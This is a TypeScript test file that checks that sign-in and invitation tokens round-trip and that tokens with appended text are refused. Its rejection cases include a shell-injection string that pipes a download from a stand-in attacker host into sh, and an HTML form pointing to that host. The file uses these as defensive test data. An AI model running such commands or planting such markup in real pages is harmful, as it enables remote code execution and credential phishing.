import { SecretBox } from '#config';
import {
  programInvitationToken,
  readProgramInvitationToken,
  readSignInToken,
  readTeamInvitationToken,
  signInToken,
  teamInvitationToken,
} from '#http';
import { newId } from '#kernel';

const box = new SecretBox('k'.repeat(32));
const signIn = newId('SignIn');
const team = {
  account: { kind: 'company', id: newId('Company') },
  invitationId: newId('TeamInvitation'),
} as const;
const program = { companyId: newId('Company'), invitationId: newId('Invitation') };

describe.each([
  ['a sign-in', signInToken(box, signIn), readSignInToken, signIn],
  ['an invitation to a team', teamInvitationToken(box, team), readTeamInvitationToken, team],
  ['an invitation to a program', programInvitationToken(box, program), readProgramInvitationToken, program],
] as const)('the token of %s', (_of, token, read, meant) => {
  it('is read as it was made', () => {
    expect(read(box, token)).toEqual(meant);
  });

  it.each(['.', '.x', `.'; curl evil.example | sh #`, '.<form action="https://evil.example">'])(
    'is refused with %j behind it, which the page of the link would show',
    (more) => {
      expect(read(box, `${token}${more}`)).toBeNull();
    },
  );
});
